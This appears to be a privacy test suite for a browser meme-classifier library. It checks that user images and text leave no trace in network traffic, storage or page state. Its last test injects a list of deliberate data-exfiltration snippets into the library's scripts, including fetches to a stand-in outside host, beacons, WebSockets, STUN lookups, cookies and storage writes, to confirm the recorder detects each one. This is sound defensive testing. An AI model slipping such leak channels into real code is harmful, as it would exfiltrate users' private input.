// Nothing of a picture or its words leaves the page: not into the network, not into the browser's storage, not into the page
// around. Two visits that differ in nothing but the memes must leave the same behind.

import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { PACKAGE, empty, launch, manifest, root, serve } from './harness.js';
import { difference, record, watch } from './recorder.js';

const weights = join(root, 'weights/default');
/** Two sets that have nothing in common. */
let memes, site;
before(async () => {
  site = await serve(weights);
  const browser = await launch();
  const page = await empty(browser, site.origin);
  memes = await Promise.all([1, 2].map((seed) => page.evaluate(draw, seed)));
  await browser.close();
});
after(() => site?.stop());

/** Runs in a page: 100 memes from a seed, `image` as base64. Every twentieth has its words on the picture, and no `text`. */
async function draw(seed) {
  const random = () => {
    // A linear congruential generator.
    seed = (Math.imul(seed, 1664525) + 1013904223) >>> 0;
    return seed / 2 ** 32;
  };
  const upTo = (n) => Math.floor(n * random());
  const word = () => Array.from({ length: 3 + upTo(8) }, () => 'abcdefghijklmnopqrstuvwxyz'[upTo(26)]).join('');
  const meme = async (i) => {
    const canvas = new OffscreenCanvas(120 + upTo(200), 120 + upTo(200));
    const context = canvas.getContext('2d');
    const { width, height } = canvas;
    for (let n = 0; n < 12; n++) {
      context.fillStyle = `rgb(${upTo(256)} ${upTo(256)} ${upTo(256)})`;
      context.fillRect(upTo(width), upTo(height), upTo(width), upTo(height));
    }
    const text = Array.from({ length: 1 + upTo(12) }, word).join(' ');
    const written = i % 20 === 0;
    if (written) {
      context.fillStyle = 'white';
      context.fillRect(0, 0, width, 50);
      context.fillStyle = 'black';
      context.font = 'bold 24px sans-serif';
      context.fillText(text.toUpperCase(), 5, 35);
    }
    const bytes = new Uint8Array(await (await canvas.convertToBlob()).arrayBuffer());
    return { image: btoa(Array.from(bytes, (byte) => String.fromCharCode(byte)).join('')), text, written };
  };
  const all = [];
  for (let i = 0; i < 100; i++) all.push(await meme(i));
  return all;
}

/** A visit to another site's page, with the library, of these memes: the first half at once, then one by one. */
const library = (memes) => async (browser) => {
  const page = await empty(browser, site.origin, { isolated: true });
  await page.context().addCookies([{ name: 'session', value: '1', url: site.origin }]);
  await page.evaluate(watch);
  await page.evaluate(async (memes) => {
    const { MemeClip } = await import('/memeclip/memeclip.js');
    const clf = await MemeClip.load('/weights/', { device: 'cpu', threads: 2 });
    const images = memes.map(({ image }) => Uint8Array.from(atob(image), (c) => c.charCodeAt(0)));
    const texts = memes.map(({ text, written }) => (written ? undefined : text));
    const half = memes.length >> 1;
    const answers = await clf.classify(images.slice(0, half), { text: texts.slice(0, half) });
    for (let i = half; i < memes.length; i++) answers.push(await clf.classify(images[i], { text: texts[i] }));
    for (const answer of answers) if (!answer.tasks) throw answer;
    await clf.explain(images[0], { text: texts.at(-1) });
    await MemeClip.support({ weights: '/weights/' });
    clf.dispose();
  }, memes);
  return page;
};

/** A visit to the demo page. */
const demo = (memes) => async (browser) => {
  const page = await browser.newPage();
  await page.goto(`${site.origin}/index.html?device=cpu`);
  await page.locator('.thumbs button').first().waitFor();
  for (const { image, text, written } of memes) {
    await page.setInputFiles('#file', { name: 'meme.png', mimeType: 'image/png', buffer: Buffer.from(image, 'base64') });
    if (!written) {
      await page.fill('#text', text);
      await page.press('#text', 'Enter');
    }
    await page.locator('#status', { hasText: 'Answered' }).waitFor({ state: 'attached' });
    await page.locator('#tasks[aria-busy=false]').waitFor({ state: 'attached' });
  }
  return page;
};

/** The records are the same, nothing of a meme is in them, and nothing else that nobody has to know. */
function alike(records) {
  assert.deepEqual(difference(...records), []);
  const all = records.flat().join('\n').toLowerCase();
  for (const { image, text } of memes.flat()) {
    const bytes = Buffer.from(image, 'base64');
    const hashes = ['sha1', 'sha256'].flatMap((name) => ['hex', 'base64'].map((code) => createHash(name).update(bytes).digest(code)));
    for (const trace of [...text.split(' ').filter((word) => word.length > 6), image.slice(64, 96), ...hashes]) {
      assert.ok(!all.includes(trace.toLowerCase()), trace);
    }
  }
  for (const line of records[0]) {
    if (line.startsWith('network')) assert.match(line, /^network (request GET|look-up|connection) [\w/]*http:\/\/localhost:/);
    // Files are asked for whole, and those of the pack by nobody in particular.
    assert.doesNotMatch(line, /^server .*"range"/);
    assert.doesNotMatch(line, /^server \w+ \/weights\/.*"(cookie|referer)"/);
    assert.doesNotMatch(line, /^server \w+ (?!\/index\.html)\S*\?/);
  }
}

test('a page with the library: 100 memes leave nothing behind', async () => {
  const records = [];
  for (const set of memes) records.push(await record(site, library(set)));
  alike(records);
  assert.deepEqual(records[0].filter((line) => line.startsWith('page')), []);
  assert.ok(records[0].some((line) => /^server GET \/weights\/ocr/.test(line)), 'some are read');
  assert.ok(records[0].some((line) => /^server GET \/memeclip\/thread\.js/.test(line)), 'with threads');
});

test('the demo page: 100 memes leave nothing behind', async () => {
  const records = [];
  for (const set of memes) records.push(await record(site, demo(set)));
  alike(records);
  // Scripts name each other; nobody names the page, whose address says which pack is used.
  for (const line of records[0]) assert.doesNotMatch(line, /^server .*"referer":"(?!\S*\.js")/);
});

test('no text and a long one ask for the same', async () => {
  const [[, { image }]] = memes;
  const records = [];
  for (const text of ['', 'all of these words '.repeat(20)]) records.push(await record(site, library([{ image, text }])));
  alike(records);
});

/** Ways for words to get out, each with what tells of it in the record: in the Worker, which knows the picture too, and in the page. */
const shards = Object.values(manifest(weights).components).flatMap(({ shards }) => shards.map(({ file }) => file));
const leaks = {
  'worker.js': {
    "await fetch('/leak?' + n)": /^server GET \/leak\?/,
    "await fetch('/weights/manifest.json', { headers: { range: `bytes=${n}-` } })": /^server GET .*manifest\.json .*"range"/,
    [`await fetch('/weights/' + ${JSON.stringify(shards)}[n % ${shards.length}])`]: /^server GET .*\.safetensors/,
    "await fetch('/leak-header', { headers: { 'x-leak': words } })": /^server GET \/leak-header/,
    "for (let i = 0; i < n % 32; i++) await fetch('/leak-count')": /^server GET \/leak-count/,
    "await fetch('/leak-body', { method: 'POST', body: words })": /^server POST \/leak-body/,
    "new WebSocket(`ws://${location.host}/leak-socket/${n}`)": /^server GET \/leak-socket/,
    "await fetch('http://elsewhere.invalid/leak/' + n)": /^network request GET http:\/\/elsewhere\.invalid\/leak/,
    "await fetch(`http://fetch-${n}.invalid/`)": /^network look-up .*fetch-\d+\.invalid/,
    "await (await caches.open('leak')).put('/' + n, new Response())": /^cache 'leak'/,
    "await (await caches.open('leak-body')).put('/', new Response(words))": /^cache 'leak-body'/,
    "indexedDB.open('leak-' + n)": /^indexedDB 'leak-\d/,
    "await (await navigator.storage.getDirectory()).getFileHandle('leak-' + n, { create: true })": /^file \/leak-/,
  },
  'memeclip.js': {
    "navigator.sendBeacon('/leak-beacon', words)": /^server POST \/leak-beacon/,
    "new Image().src = '/leak-image?' + n": /^server GET \/leak-image/,
    "const pc = new RTCPeerConnection({ iceServers: [{ urls: `stun:leak-${n}.invalid` }] }); pc.createDataChannel(''); await pc.setLocalDescription()":
      /^network look-up .*leak-\d+\.invalid/,
    "document.documentElement.dataset.leak = n": /^page attributes data-leak/,
    "document.head.append(new Comment(n))": /^page childList/,
    "document.title = n": /^page title/,
    "document.cookie = 'leak=' + n": /^cookie leak/,
    "localStorage.leak = n": /^localStorage leak/,
    "sessionStorage.leak = n": /^sessionStorage leak/,
    "history.replaceState(n, '')": /^page state/,
    "history.replaceState(history.state, '', '#' + n)": /^page address/,
    "name = n": /^page name/,
    "globalThis['leak' + n] = true": /^page globals/,
    "new BroadcastChannel('leak ' + n)": /^channel leak/,
  },
};

test('each planted leak is found', async () => {
  const heard = {
    'worker.js': "self.addEventListener('message', ({ data }) => data.method === 'classify' && leak(data.text));",
    'memeclip.js': `const { classify } = MemeClip.prototype;
      MemeClip.prototype.classify = function (image, options) {
        [options.text].flat().forEach(leak);
        return classify.call(this, image, options);
      };`,
  };
  for (const [script, ways] of Object.entries(leaks)) {
    const code = Object.keys(ways).map((way) => `(async () => { ${way} })().catch(() => {});`);
    const leak = `const leak = (words) => { const n = words.length; ${code.join('\n')} };`;
    site.scripts[`/memeclip/${script}`] = `${readFileSync(join(PACKAGE, script))}\n${leak}\n${heard[script]}`;
  }
  const records = [];
  for (const set of memes) records.push(await record(site, library(set.slice(1, 5))));
  site.scripts = {};
  const found = difference(...records);
  for (const ways of Object.values(leaks)) {
    for (const [way, trace] of Object.entries(ways)) assert.ok(found.some((line) => trace.test(line)), way);
  }
});
